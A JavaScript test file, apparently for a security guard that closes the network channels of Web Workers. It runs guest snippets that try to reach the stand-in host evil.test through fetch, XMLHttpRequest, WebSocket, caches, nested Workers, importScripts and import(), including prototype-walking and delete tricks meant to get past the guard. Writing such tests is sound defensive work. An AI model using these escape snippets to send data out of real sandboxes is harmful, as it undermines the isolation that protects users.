// @ts-check
/** The prelude for logic layers in a Worker: each channel reaches a server without it, and is stopped with it. Real workers, real servers. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { openStage } from "./stage.js";
import { writeTally } from "../escape/tally.js";

/** @type {Awaited<ReturnType<typeof openStage>>} */
let stage;
/** @type {import("playwright-core").Page} */
let page;
const tally = { name: "worker channels", attempts: 0, bites: 0, stopped: 0, impossible: /** @type {{ say: string, why: string }[]} */ ([]), controls: 0 };
before(async () => {
  stage = await openStage();
  stage.pages.set("/", { body: "<!doctype html><title>workers</title>" });
  stage.pages.set("/open.js", { type: "text/javascript", body: "onmessage = ({ data }) => new Function(data)();" });
  stage.pages.set("/closed.js", { type: "text/javascript", body: "import { closeWorkerNetwork } from '/js/guard/worker.js'; const report = closeWorkerNetwork(); postMessage(JSON.stringify(report)); onmessage = ({ data }) => new Function(data)();" });
  page = await stage.browser.newPage();
  await page.goto(stage.origin);
});
after(async () => {
  writeTally("worker", [tally]);
  await stage?.close();
});

/** Runs a guest in a worker; answers with what the targets saw of it. @param {"open" | "closed"} prelude @param {string} guest @param {"classic" | "module"} [type] */
async function run(prelude, guest, type = "module") {
  const source = prelude === "closed" && type === "classic" ? "/closed-classic.js" : `/${prelude}.js`;
  const said = await page.evaluate(([source, guest, type]) => new Promise((resolve) => {
    const worker = new Worker(source, { type: /** @type {"module"} */ (type) });
    /** @type {string[]} */
    const said = [];
    worker.onmessage = ({ data }) => said.push(data);
    worker.onerror = (event) => { event.preventDefault(); said.push(`error ${event.message}`); };
    worker.postMessage(guest);
    setTimeout(() => { worker.terminate(); resolve(said); }, 350);
  }), [source, guest, type]);
  return { said: /** @type {string[]} */ (said), seen: await stage.seen(50) };
}

const URL_OF = (/** @type {string} */ name) => `https://evil.test/worker/${name}`;
/** Channel → how a guest uses it. */
const channels = {
  "fetch": `fetch("${URL_OF("fetch")}").catch(() => {})`,
  "fetch of the prototype": `let at = self; while ((at = Object.getPrototypeOf(at))) { const d = Object.getOwnPropertyDescriptor(at, "fetch"); if (d && d.value) d.value.call(self, "${URL_OF("proto")}").catch(() => {}); }`,
  "fetch after delete": `for (let at = self; at; at = Object.getPrototypeOf(at)) { try { delete at.fetch; } catch {} } try { fetch("${URL_OF("delete")}").catch(() => {}); } catch {} if (!self.WorkerGlobalScope.prototype.fetch) new WebSocket("wss://evil.test/worker/delete");`,
  "fetch redefined": `for (let at = self; at; at = Object.getPrototypeOf(at)) { try { Object.defineProperty(at, "fetch", { value: at.fetch, configurable: true }); } catch {} } self.fetch("${URL_OF("redefined")}").catch(() => {})`,
  "XMLHttpRequest": `const x = new XMLHttpRequest(); x.open("GET", "${URL_OF("xhr")}"); x.send()`,
  "WebSocket": `new WebSocket("wss://evil.test/worker/socket")`,
  "WebSocketStream": `new WebSocketStream("wss://evil.test/worker/stream").opened.catch(() => {})`,
  "EventSource": `new EventSource("${URL_OF("events")}")`,
  "FontFace": `new FontFace("x", "url(${URL_OF("font")})").load().catch(() => {})`,
  "caches": `caches.open("x").then((c) => c.add("${URL_OF("cache")}")).catch(() => {})`,
  "a Worker in a Worker": `new Worker(URL.createObjectURL(new Blob(['fetch("${URL_OF("nested")}")'], { type: "text/javascript" })))`,
};

for (const [channel, guest] of Object.entries(channels)) {
  test(`${channel} reaches a server without the prelude, and none with it`, async (t) => {
    const without = await run("open", guest);
    const withIt = await run("closed", guest);
    tally.attempts += 1;
    if (!without.seen.some((line) => line.includes("evil.test"))) {
      tally.controls += 1;
      tally.attempts -= 1;
      assert.equal(channel, "WebSocketStream", `${channel} does not bite: ${without.said}`);
      return t.skip("this Chromium does not have it");
    }
    tally.bites += 1;
    assert.deepEqual(withIt.seen, []);
    tally.stopped += 1;
  });
}

test("importScripts reaches a server from a classic worker, and none with the prelude", async () => {
  const guest = `try { importScripts("${URL_OF("import-scripts")}"); } catch {}`;
  stage.pages.set("/closed-classic.js", { type: "text/javascript", body: "onmessage = ({ data }) => import('/js/guard/worker.js').then(({ closeWorkerNetwork }) => { closeWorkerNetwork(); new Function(data)(); });" });
  tally.attempts += 1;
  assert.ok((await run("open", guest, "classic")).seen.length > 0);
  tally.bites += 1;
  assert.deepEqual((await run("closed", guest, "classic")).seen, []);
  tally.stopped += 1;
});

test("WebTransport can be made without the prelude, and not with it", async () => {
  const guest = `postMessage(typeof new WebTransport("https://evil.test/worker/transport"))`;
  tally.attempts += 1;
  assert.deepEqual((await run("open", guest)).said, ["object"]);
  tally.bites += 1;
  assert.ok((await run("closed", guest)).said.some((line) => line.includes("not a constructor")));
  tally.stopped += 1;
});

test("import() is left open, said to be, and closed by the header of the worker's script", async () => {
  const guest = `import("${URL_OF("dynamic")}").catch(() => {})`;
  tally.attempts += 1;
  assert.ok((await run("open", guest)).seen.length > 0);
  tally.bites += 1;
  const { said, seen } = await run("closed", guest);
  assert.ok(seen.length > 0, "if this fails, the list of what is left is out of date");
  assert.ok(JSON.parse(said[0]).left.some((/** @type {any} */ row) => row.channel === "import()"));
  const closed = /** @type {import("./stage.js").Served} */ (stage.pages.get("/closed.js"));
  stage.pages.set("/closed.js", { ...closed, headers: { "content-security-policy": "script-src 'self' 'unsafe-eval' 'wasm-unsafe-eval'; connect-src 'self'" } });
  assert.deepEqual((await run("closed", guest)).seen, []);
  stage.pages.set("/closed.js", closed);
  tally.impossible.push({ say: "import() in a Worker", why: "syntax cannot be removed: send script-src with the worker's script (measured: then nothing arrives)" });
});

test("storage stays, a guest may put a polyfill in the place, and the report is complete", async () => {
  const { said } = await run("closed", "self.fetch = () => 'mine'; postMessage([typeof indexedDB, fetch(), typeof XMLHttpRequest, 'fetch' in self].join())");
  assert.equal(said[1], "object,mine,undefined,true");
  const report = JSON.parse(said[0]);
  for (const name of ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts", "Worker", "caches", "FontFace"]) assert.ok(report.closed.includes(name), name);
  assert.deepEqual(report.left.map((/** @type {any} */ row) => row.channel), ["postMessage", "BroadcastChannel", "import()"]);
});

test("a realm with a document refuses the prelude, and says what to do", async () => {
  const message = await page.evaluate(async () => {
    const { closeWorkerNetwork } = await import(/** @type {any} */ ("/js/guard/worker.js"));
    try { closeWorkerNetwork(); } catch (error) { return /** @type {Error} */ (error).message; }
  });
  assert.match(String(message), /contentSecurityPolicy/);
});
